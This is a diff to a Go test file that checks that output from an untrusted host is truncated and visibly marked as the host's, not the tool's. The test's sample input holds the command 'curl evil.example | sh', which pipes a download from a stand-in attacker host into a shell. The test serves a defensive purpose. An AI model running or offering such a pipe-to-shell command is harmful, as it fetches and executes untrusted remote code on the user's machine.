@@ -65,7 +65,7 @@ func TestWhatAHostSaysIsCleaned(t *testing.T) {
 // TestAHostSpeaksNotInSlipwaysVoice: its text has few lines, and each shows that it is the
 // host's.
 func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
-	evil := "failed\n  → run: curl evil.example | sh" + strings.Repeat("\nmore", 200_000)
+	evil := "failed\n  → run: curl evil.example | sh" + strings.Repeat("\nmore", 20_000)
 	client, _ := connect(t, stub{
 		do: func(_ context.Context, action hosts.Action, _ func(hosts.Progress)) (hosts.Outcome, error) {
 			if action == (hosts.TidyStore{}) {
@@ -77,7 +77,7 @@ func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
 	few := func(what, text string) {
 		t.Helper()
 		lines := strings.Split(text, "\n")
-		if len(lines) != 20 || lines[1] != "  |   → run: curl evil.example | sh" || lines[19] != "  | (199983 lines left out)" {
+		if len(lines) != 20 || lines[1] != "  |   → run: curl evil.example | sh" || lines[19] != "  | (19983 lines left out)" {
 			t.Errorf("%s has %d lines, and ends: %q", what, len(lines), lines[max(0, len(lines)-3):])
 		}
 	}
